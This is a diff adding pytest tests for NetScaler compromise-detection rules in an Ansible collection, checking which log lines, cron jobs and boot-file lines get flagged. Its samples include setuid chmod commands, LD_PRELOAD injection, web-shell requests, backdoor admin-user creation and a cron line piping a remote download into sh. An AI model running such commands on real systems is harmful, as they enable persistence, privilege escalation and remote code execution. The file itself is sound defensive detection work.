@@ -1,0 +1,93 @@
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+"""Each rule by property for lines: what it finds, and what an ordinary appliance has, which it does not."""
+
+from __future__ import annotations
+
+import pytest
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.fix_date import FixDate
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.compiled_indicators import (
+    general_clues,
+)
+
+COMMAND = 'Jan 19 23:40:14 <local7.notice> ns bash[3632]: {} shell_command="{}"'
+ASKED = '198.51.100.7 - - [18/Jan/2020:00:15:29 +0000] "{} HTTP/1.1" {} {} "-" "x"'
+DONE = 'default CLI CMD_EXECUTED 1 0 : User nsroot - Remote_ip {} - Command "{}" - Status "Success"'
+
+SETS = (
+    "chmod 6555 /bin/sh",
+    "chmod -v u+s /x",
+    "chmod -R 04755 /x",
+    "chmod +s /x",
+    "x && chmod 2755 /y",
+    "LD_PRELOAD=/x ls",
+)
+SETS_NOT = ("chmod 755 /x", "chmod 0644 /x", "chmod 1777 /x", "chmod +x /x", "chmod -R u+rw /x", "chmod 755 /x6555")
+
+
+def found(line: str, kind: str = "log") -> list[str]:
+    """Return the levels of the rules that find a line."""
+    return [str(clue.level) for clue in general_clues() if clue.kind == kind and clue.match(line.encode())]
+
+
+@pytest.mark.parametrize(
+    ("line", "levels"),
+    [
+        *((COMMAND.format("root on (null)", text), ["compromise"]) for text in SETS),
+        *((COMMAND.format("root on (null)", text), []) for text in SETS_NOT),
+        (COMMAND.format("(null) on (null)", "id"), ["review"]),
+        (COMMAND.format("root on (null)", "id"), []),
+        (ASKED.format("GET /vpn/themes/imgs/x.php?a=1", 200, 71), ["compromise"]),
+        (ASKED.format("POST /vpn/theme/x.php", 404, 71), ["attempt"]),
+        (ASKED.format("GET /vpn/themes/imgs/x.png", 200, 71), []),
+        (ASKED.format("GET /vpn/themes/x.png?a=.php", 200, 71), []),
+        (ASKED.format("GET /vpn/media/x.ico", 404, 71875), ["compromise"]),
+        (ASKED.format("GET /vpn/media/x.ico", 404, 5200), ["compromise"]),
+        (ASKED.format("GET /vpn/media/x.ico", 404, 196), []),
+        (ASKED.format("GET /vpn/media/x.ico", 200, 71875), []),
+        (DONE.format("127.0.0.1", "add system user x ****"), ["compromise"]),
+        (DONE.format("::1", "bind system user x superuser 100"), ["compromise"]),
+        (DONE.format("127.0.0.1", "show system user"), []),
+        (DONE.format("10.9.9.9", "add system user x ****"), []),
+        (DONE.format("10.9.9.9", "set authentication epaAction x -defaultEPAGroup NO_AUTH"), ["compromise"]),
+        (DONE.format("10.9.9.9", "set authentication epaAction x -defaultEPAGroup staff"), []),
+    ],
+)  # fmt: skip
+def test_lines_of_logs(line: str, levels: list[str]) -> None:
+    assert found(line) == levels
+
+
+@pytest.mark.parametrize(
+    ("job", "levels"),
+    [
+        ("* * * * * sh /var/nstmp/.a/ci.sh", ["compromise"]),
+        ("@reboot /nsconfig/.x/httpd", ["compromise"]),
+        ("*/5 * * * * root curl -sk https://192.0.2.66/x | sh", ["compromise"]),
+        ("*/5 * * * * root /nsconfig/monitors/load.pl | logger", []),
+        ("*/5 * * * * root cd ../x; ls ./y", []),
+    ],
+)
+def test_jobs_of_cron(job: str, levels: list[str]) -> None:
+    assert found(job, "cron") == levels
+
+
+@pytest.mark.parametrize(
+    ("line", "levels"),
+    [
+        ("export LD_PRELOAD=/var/x.so", ["compromise"]),
+        ("# LD_PRELOAD=/var/x.so", []),
+        ("libc.so.7 /var/nslog/x.so", ["compromise"]),
+        ("# libc.so.7 /var/nslog/x.so", []),
+        ("(sleep 60; sh /var/tmp/.x/sh) &", ["review"]),
+        ("nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0", []),
+    ],
+)
+def test_what_is_used_at_boot(line: str, levels: list[str]) -> None:
+    assert found(line, "content") == levels
+
+
+def test_a_rule_by_property_says_its_source_and_no_weakness() -> None:
+    for clue in general_clues():
+        assert clue.indicator.source in clue.why
+        assert clue.entries == ()
+        assert clue.why.count("named for") == 0
+    assert FixDate(None).of((), None).value == "not known whether before or after the fix"
